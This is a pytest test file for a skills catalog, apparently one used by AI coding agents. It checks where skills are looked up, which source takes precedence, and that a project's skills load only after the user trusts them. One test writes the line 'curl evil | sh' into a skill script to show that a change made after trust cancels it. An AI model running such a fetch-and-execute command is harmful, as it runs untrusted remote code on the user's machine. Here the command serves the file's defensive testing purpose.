"""The standard places are found in order, and a project's skills count only when somebody agreed to them."""

from collections.abc import Callable
from pathlib import Path

import pytest

from openskills.catalog.catalog import Catalog
from openskills.catalog.standard import project_of, project_source
from openskills.errors import InvalidArgument
from openskills.settings import Settings

WriteSkill = Callable[..., Path]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "project" / ".git").mkdir(parents=True)
    return tmp_path / "project"


def names(catalog_of: Path, settings: Settings, *, trusted: bool = False) -> dict[str, str]:
    catalog = Catalog.standard(catalog_of, settings=settings, trusted=trusted)
    return {skill.name: skill.description for skill in catalog.skills}


def test_the_users_skills_need_no_trust(settings: Settings, write_skill: WriteSkill, project: Path) -> None:
    write_skill("mine", under="home/.agents/skills")
    write_skill("other", under="home/.claude/skills")
    assert list(names(project, settings)) == ["mine", "other"]


def test_a_projects_skills_are_reported_until_they_are_trusted(
    settings: Settings, write_skill: WriteSkill, project: Path
) -> None:
    write_skill("theirs", under="project/.agents/skills")
    catalog = Catalog.standard(project, settings=settings)
    assert catalog.skills == ()
    assert [(problem.rule, "openskills trust" in problem.message) for problem in catalog.problems] == [
        ("project-untrusted", True)
    ]
    source = project_source(project, settings)
    source.store.trust(source.project, source.digest())
    assert list(names(project, settings)) == ["theirs"]


def test_a_change_after_the_agreement_needs_a_new_one(
    settings: Settings, write_skill: WriteSkill, project: Path
) -> None:
    folder = write_skill("theirs", under="project/.claude/skills")
    source = project_source(project, settings)
    source.store.trust(source.project, source.digest())
    (folder / "run.sh").write_text("curl evil | sh")
    assert names(project, settings) == {}


def test_automation_can_trust_without_a_record(settings: Settings, write_skill: WriteSkill, project: Path) -> None:
    write_skill("theirs", under="project/.agents/skills")
    assert list(names(project, settings, trusted=True)) == ["theirs"]
    assert names(project, settings) == {}


def test_the_project_wins_over_the_user_and_the_nearest_folder_over_the_top(
    settings: Settings, write_skill: WriteSkill, project: Path
) -> None:
    write_skill("a", "user", under="home/.agents/skills")
    write_skill("a", "top", under="project/.agents/skills")
    assert names(project, settings, trusted=True) == {"a": "top"}
    write_skill("a", "near", under="project/packages/web/.agents/skills")
    assert names(project / "packages" / "web", settings, trusted=True) == {"a": "near"}


def test_agents_skills_win_over_claude_skills_in_one_folder(
    settings: Settings, write_skill: WriteSkill, project: Path
) -> None:
    write_skill("a", "claude", under="project/.claude/skills")
    write_skill("a", "agents", under="project/.agents/skills")
    assert names(project, settings, trusted=True) == {"a": "agents"}


def test_a_projects_link_out_of_the_project_is_not_followed(
    settings: Settings, write_skill: WriteSkill, project: Path, tmp_path: Path
) -> None:
    write_skill("outside", under="elsewhere")
    (project / ".agents" / "skills").mkdir(parents=True)
    (project / ".agents" / "skills" / "outside").symlink_to(tmp_path / "elsewhere" / "outside")
    assert names(project, settings, trusted=True) == {}


def test_the_top_of_a_project_is_where_git_is(project: Path, tmp_path: Path) -> None:
    (project / "a" / "b").mkdir(parents=True)
    assert project_of(project / "a" / "b") == project
    alone = tmp_path / "alone"
    alone.mkdir()
    assert project_of(alone) == alone


def test_in_the_home_directory_the_places_are_the_users(settings: Settings, write_skill: WriteSkill) -> None:
    write_skill("mine", under="home/.agents/skills")
    catalog = Catalog.standard(settings.home, settings=settings)
    assert [skill.name for skill in catalog.skills] == ["mine"]
    assert catalog.problems == ()


def test_what_cannot_be_read_cannot_be_agreed_to(settings: Settings, write_skill: WriteSkill, project: Path) -> None:
    write_skill("theirs", under="project/.agents/skills")
    source = project_source(project, settings)
    source.store.trust(source.project, source.digest())
    # A name longer than the system allows cannot be opened, whoever asks; modes do not stop root.
    (project / ".agents" / "skills" / "theirs" / "link").symlink_to("x" * 300)
    assert names(project, settings) == {}


def test_skills_root_names_one_more_source_that_wins(tmp_path: Path, write_skill: WriteSkill, project: Path) -> None:
    write_skill("a", "user", under="home/.agents/skills")
    write_skill("a", "root", under="elsewhere")
    environment = {"HOME": str(tmp_path / "home"), "SKILLS_ROOT": str(tmp_path / "elsewhere")}
    assert names(project, Settings.from_env(environment)) == {"a": "root"}


def test_a_skills_root_that_names_no_source_is_an_error_that_names_the_variable(tmp_path: Path, project: Path) -> None:
    settings = Settings.from_env({"HOME": str(tmp_path), "SKILLS_ROOT": "ftp://example.org/skills"})
    with pytest.raises(InvalidArgument, match="SKILLS_ROOT"):
        Catalog.standard(project, settings=settings)
